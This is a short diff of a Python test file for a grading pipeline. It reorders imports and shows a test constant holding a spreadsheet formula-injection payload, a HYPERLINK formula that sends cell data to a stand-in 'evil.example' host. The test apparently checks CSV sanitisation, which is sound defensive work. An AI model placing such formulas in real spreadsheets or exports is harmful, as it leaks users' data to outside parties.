@@ -22,10 +22,10 @@ from pathlib import Path
 
 import nbformat
 import pytest
+from conftest import REPO
 
 from cnngrader.pipeline import csvsafe, safefiles
-from cnngrader.pipeline.grade import course_config, find_submissions, prepare_submission, write_grades, GRADES_FIELDS
-from conftest import REPO
+from cnngrader.pipeline.grade import GRADES_FIELDS, course_config, find_submissions, prepare_submission, write_grades
 
 AID = "02_cross_correlation"
 ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
